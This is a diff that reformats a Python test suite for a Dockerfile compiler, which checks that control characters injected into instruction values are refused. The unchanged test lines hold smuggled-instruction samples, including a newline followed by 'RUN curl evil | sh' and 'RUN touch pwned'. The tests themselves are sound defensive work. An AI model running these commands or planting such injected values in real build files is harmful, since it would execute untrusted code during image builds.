@@ -22,8 +22,11 @@ INJECTED = "requirements-base-\nRUN touch pwned\n.txt"
 
 
 def _instructions(text: str) -> list[str]:
-    return [i["instruction"] for i in DockerfileParser(fileobj=__import__("io").BytesIO(text.encode())).structure
-            if i["instruction"] != "COMMENT"]
+    return [
+        i["instruction"]
+        for i in DockerfileParser(fileobj=__import__("io").BytesIO(text.encode())).structure
+        if i["instruction"] != "COMMENT"
+    ]
 
 
 def _plan(repo: Path):
@@ -53,7 +56,9 @@ def test_control_characters_in_an_instruction_value_are_refused(tmp_path):
     graph = _plan(repo).graph
     for value in ("x\nRUN curl evil | sh", "x\rRUN id", "x\x00y"):
         g = copy.deepcopy(graph)
-        g.add(Node("config:env:EVIL", "CONFIG", "EVIL", "SATISFIED", action="env", attrs={"kind": "env", "value": value}))
+        g.add(
+            Node("config:env:EVIL", "CONFIG", "EVIL", "SATISFIED", action="env", attrs={"kind": "env", "value": value})
+        )
         with pytest.raises(DockerfileInjection, match="control character"):
             compile_dockerfile(g)
     g = copy.deepcopy(graph)
